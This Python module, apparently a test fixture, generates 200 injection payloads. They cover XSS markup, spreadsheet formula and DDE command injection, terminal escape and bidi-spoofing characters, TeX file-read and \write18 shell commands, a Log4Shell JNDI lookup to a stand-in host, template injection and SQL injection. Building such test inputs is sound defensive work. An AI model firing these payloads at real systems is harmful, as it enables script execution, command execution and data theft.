"""Two hundred texts that try to act: markup, formulas, control characters, template and TeX commands."""

_MARKUP = (
    "<script>{n}alert(1)</script>",
    "<img src=x{n} onerror=alert(1)>",
    "<svg/onload=alert({n})>",
    '"><iframe src="javascript:alert({n})">',
    "</style><style>@import url(//x{n}.example)</style>",
    "</title></svg></desc><a href=javascript:alert({n})>x</a>",
    "<!--{n}--><base href=//x.example>",
    "]]><![CDATA[<b>{n}",
    "&lt;script&gt;{n}&#60;b&#62;",
    "<math><mtext><table><mglyph><style><img src={n} onerror=alert(1)>",
    "<form action=//x.example/{n}><input autofocus onfocus=alert(1)>",
    "<object data=data:text/html;base64,{n}></object>",
)
_FORMULAS = (
    "=1+{n}",
    "+1+{n}",
    "-1+{n}",
    "@SUM({n})",
    '=HYPERLINK("http://x{n}.example";"x")',
    "=cmd|' /C calc{n}'!A0",
    "\t=1+{n}",
    "\r=1+{n}",
    "\n=1+{n}",
    "\u00a0=1+{n}",
    "\uff1d1+{n}",
    "  @SUM(1;{n})",
    "{{=1+{n}}}",
)
_CONTROLS = (
    "\x1b[31m{n}\x1b[0m",
    "\x1b]0;title {n}\x07",
    "\x1b]8;;http://x{n}.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H{n}",
    "\x9b31m{n}",
    "\x00{n}\x08\x7f",
    "a{n}\r\nSet: b",
    "\u202e{n}gpj.exe",
    "\u2066{n}\u2069",
    "\ufffe\uffff{n}",
    "\ud800{n}",
    "\x85{n}\u2028\u2029",
)
_COMMANDS = (
    r"\input{/etc/passwd}{n}",
    r"\write18{touch x{n}}",
    r"$\def\x{\x}\x{n}$",
    r"%{n} & \\ \end{document}",
    r"~^_{#}{n}",
    "{{{{7*{n}}}}}{{% raw %}}",
    '#eval("1+{n}")',
    '#import "@preview/x:{n}.0.0": *',
    '`{n}` *b* _i_ $x$ #read("content.json")',
    "[link=file:///{n}][blink]x[/]",
    "<{n}> @cite <label>",
    "${{jndi:ldap://x{n}}}",
    "'; DROP TABLE runs{n}; --",
)
PAYLOADS = [
    text.replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")
    for n in range(4)
    for text in (*_MARKUP, *_FORMULAS, *_CONTROLS, *_COMMANDS)
]
